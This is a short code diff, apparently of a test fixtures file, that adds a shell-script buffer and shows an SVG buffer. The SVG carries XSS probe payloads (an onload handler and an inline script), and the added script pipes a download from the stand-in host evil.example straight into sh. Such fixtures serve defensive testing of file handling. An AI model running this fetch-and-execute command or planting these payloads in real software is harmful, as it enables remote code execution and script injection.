@@ -25,3 +25,5 @@ export const HTML_PAGE = Buffer.from(
 export const SVG_IMAGE = Buffer.from(
   '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>',
 );
+
+export const SHELL_SCRIPT = Buffer.from('#!/bin/sh\ncurl https://evil.example | sh\n');
